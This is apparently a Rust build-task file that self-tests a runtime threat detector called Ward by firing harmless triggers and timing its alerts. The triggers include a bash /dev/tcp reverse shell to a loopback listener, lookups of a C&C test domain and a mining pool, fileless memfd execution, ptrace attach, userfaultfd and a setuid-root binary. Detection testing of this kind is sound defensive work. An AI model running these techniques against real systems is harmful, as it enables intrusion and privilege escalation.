//! `cargo xtask scenarios`: a self-test of Ward on this host. It runs `ward-agent watch` piped into
//! `ward-collector detect --stream`, triggers a harmless version of each runtime behaviour (loopback only;
//! DNS goes to a server this task runs on 127.0.0.77), and reports which findings Ward raised and how long
//! after the trigger. Everything it creates lives in a scratch directory it removes.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::mpsc::{Receiver, channel};
use std::time::{Duration, Instant};

use anyhow::{Context, bail};

#[derive(clap::Args)]
pub struct Args {
    /// Seconds to wait for each finding.
    #[arg(long, default_value_t = 5.0)]
    wait: f64,
}

struct Scenario {
    name: &'static str,
    finding: &'static str,
    trigger: fn(&Path) -> anyhow::Result<()>,
}

const PYTHON: &str = "/usr/bin/python3";

fn python(code: &str) -> anyhow::Result<()> {
    let status = Command::new(PYTHON)
        .args(["-c", code])
        .stdout(Stdio::null())
        .status()?;
    if !status.success() {
        bail!("python trigger failed");
    }
    Ok(())
}

fn reverse_shell(_: &Path) -> anyhow::Result<()> {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let port = listener.local_addr()?.port();
    let mut shell = Command::new("bash")
        .args([
            "-c",
            &format!("exec bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1"),
        ])
        .stdin(Stdio::null())
        .spawn()?;
    let (mut conn, _) = listener.accept()?;
    conn.write_all(b"exit\n")?;
    let _ = conn.read_to_end(&mut Vec::new());
    shell.wait()?;
    Ok(())
}

fn dns_lookup(name: &str) -> anyhow::Result<()> {
    let server = ward_tests::dns_server_once();
    python(&ward_tests::python_dns_query(name))?;
    server
        .join()
        .map_err(|_| anyhow::anyhow!("DNS server thread"))?;
    Ok(())
}

fn cnc_lookup(_: &Path) -> anyhow::Result<()> {
    dns_lookup("guarddutyc2activityb.com")
}

fn mining_pool_lookup(_: &Path) -> anyhow::Result<()> {
    dns_lookup("pool.supportxmr.com")
}

fn miner(dir: &Path) -> anyhow::Result<()> {
    let miner = dir.join("xmrig");
    std::fs::copy("/bin/true", &miner)?;
    Command::new(&miner).status()?;
    Ok(())
}

fn fileless(_: &Path) -> anyhow::Result<()> {
    python(
        "import os\nfd=os.memfd_create('payload',0)\nos.write(fd,open('/bin/true','rb').read())\n\
         os.execv('/proc/self/fd/%d'%fd,['payload'])",
    )
}

fn ptrace_attach(_: &Path) -> anyhow::Result<()> {
    let mut target = Command::new("sleep").arg("10").spawn()?;
    let pid = target.id();
    let result = python(&format!(
        "import ctypes,os\nlibc=ctypes.CDLL(None)\nassert libc.ptrace(16,{pid},0,0)==0\nos.waitpid({pid},0)\nlibc.ptrace(17,{pid},0,0)"
    ));
    target.kill()?;
    target.wait()?;
    result
}

fn userfaultfd(_: &Path) -> anyhow::Result<()> {
    python("import ctypes\nctypes.CDLL(None).syscall(323, 0o2000000)")
}

fn setuid_binary(dir: &Path) -> anyhow::Result<()> {
    // A root-owned setuid copy of `id` run as nobody: its euid becomes 0.
    let suid = dir.join("ward-suid-id");
    std::fs::copy("/usr/bin/id", &suid)?;
    std::fs::set_permissions(&suid, std::os::unix::fs::PermissionsExt::from_mode(0o4755))?;
    Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
        .arg(&suid)
        .stdout(Stdio::null())
        .status()?;
    Ok(())
}

const SCENARIOS: &[Scenario] = &[
    Scenario {
        name: "reverse shell to a loopback listener",
        finding: "Execution:Runtime/ReverseShell",
        trigger: reverse_shell,
    },
    Scenario {
        name: "lookup of GuardDuty's test C&C domain",
        finding: "Backdoor:Runtime/C&CActivity.B!DNS",
        trigger: cnc_lookup,
    },
    Scenario {
        name: "lookup of a mining pool",
        finding: "CryptoCurrency:Runtime/BitcoinTool.B!DNS",
        trigger: mining_pool_lookup,
    },
    Scenario {
        name: "a binary named like a miner",
        finding: "Impact:Runtime/CryptoMinerExecuted",
        trigger: miner,
    },
    Scenario {
        name: "exec from a memfd",
        finding: "DefenseEvasion:Runtime/FilelessExecution",
        trigger: fileless,
    },
    Scenario {
        name: "ptrace attach by a non-debugger",
        finding: "DefenseEvasion:Runtime/ProcessInjection.Ptrace",
        trigger: ptrace_attach,
    },
    Scenario {
        name: "userfaultfd",
        finding: "PrivilegeEscalation:Runtime/UserfaultfdUsage",
        trigger: userfaultfd,
    },
    Scenario {
        name: "setuid binary run by nobody",
        finding: "PrivilegeEscalation:Runtime/ElevationToRoot",
        trigger: setuid_binary,
    },
];

/// The running agent and detector; findings arrive on the channel with the time they were read.
struct Pipeline {
    agent: Child,
    detect: Child,
    findings: Receiver<(Instant, String)>,
}

impl Pipeline {
    fn start(bins: &Path) -> anyhow::Result<Pipeline> {
        let mut agent = Command::new(bins.join("ward-agent"))
            .args(["watch", "--types"])
            .arg("process_exec,process_fork,process_exit,net_stdio_socket,dns_query,ptrace,process_vm_access,memfd_create,userfaultfd,priv_setid")
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .context("starting ward-agent (run as root)")?;
        let mut stderr = BufReader::new(agent.stderr.take().expect("piped"));
        let mut line = String::new();
        while !line.contains("ward-agent: ready") {
            line.clear();
            if stderr.read_line(&mut line)? == 0 {
                bail!("ward-agent exited before it was ready");
            }
        }
        std::thread::spawn(move || std::io::copy(&mut stderr, &mut std::io::sink()));
        let mut detect = Command::new(bins.join("ward-collector"))
            .args(["detect", "--stream", "--events", "-"])
            .stdin(agent.stdout.take().expect("piped"))
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()?;
        let out = BufReader::new(detect.stdout.take().expect("piped"));
        let (tx, findings) = channel();
        std::thread::spawn(move || {
            for line in out.lines().map_while(Result::ok) {
                let kind = line
                    .split("\"type\":\"")
                    .nth(1)
                    .and_then(|t| t.split('"').next())
                    .unwrap_or("")
                    .to_string();
                if tx.send((Instant::now(), kind)).is_err() {
                    break;
                }
            }
        });
        Ok(Pipeline {
            agent,
            detect,
            findings,
        })
    }

    /// The first finding of `kind` read before `deadline`.
    fn wait_for(&self, kind: &str, deadline: Instant) -> Option<Instant> {
        while let Ok((at, found)) = self
            .findings
            .recv_timeout(deadline.saturating_duration_since(Instant::now()))
        {
            if found == kind {
                return Some(at);
            }
        }
        None
    }

    fn stop(mut self) {
        // SAFETY: signalling our own child.
        unsafe { libc::kill(self.agent.id() as i32, libc::SIGINT) };
        let _ = self.agent.wait();
        let _ = self.detect.wait();
    }
}

pub fn run(args: Args) -> anyhow::Result<()> {
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        bail!("scenarios load eBPF and use setuid binaries: run as root");
    }
    crate::cargo(
        &[
            "build",
            "--bins",
            "-p",
            "ward-agent",
            "-p",
            "ward-collector",
        ],
        &[],
    )?;
    let bins: PathBuf = crate::target_dir().join("debug");
    let dir = std::env::temp_dir().join(format!("ward-scenarios-{}", std::process::id()));
    std::fs::create_dir_all(&dir)?;
    std::fs::set_permissions(&dir, std::os::unix::fs::PermissionsExt::from_mode(0o755))?;
    let pipeline = Pipeline::start(&bins)?;
    println!("| scenario | expected finding | raised | trigger to finding |");
    println!("|---|---|---|---|");
    let mut raised = 0;
    for scenario in SCENARIOS {
        // Drop findings of earlier scenarios still in flight.
        while pipeline.findings.try_recv().is_ok() {}
        let started = Instant::now();
        let outcome = (scenario.trigger)(&dir);
        let found = outcome.as_ref().ok().and_then(|_| {
            pipeline.wait_for(
                scenario.finding,
                started + Duration::from_secs_f64(args.wait),
            )
        });
        let (yes, latency) = match (&outcome, found) {
            (Err(e), _) => ("trigger failed".to_string(), format!("{e:#}")),
            (Ok(()), Some(at)) => (
                "yes".to_string(),
                format!("{:.0} ms", (at - started).as_secs_f64() * 1000.0),
            ),
            (Ok(()), None) => ("NO".to_string(), "-".to_string()),
        };
        raised += usize::from(yes == "yes");
        println!(
            "| {} | `{}` | {yes} | {latency} |",
            scenario.name, scenario.finding
        );
    }
    pipeline.stop();
    std::fs::remove_dir_all(&dir).ok();
    println!(
        "\n{raised} of {} scenarios raised their finding",
        SCENARIOS.len()
    );
    if raised < SCENARIOS.len() {
        bail!("{} scenarios raised no finding", SCENARIOS.len() - raised);
    }
    Ok(())
}
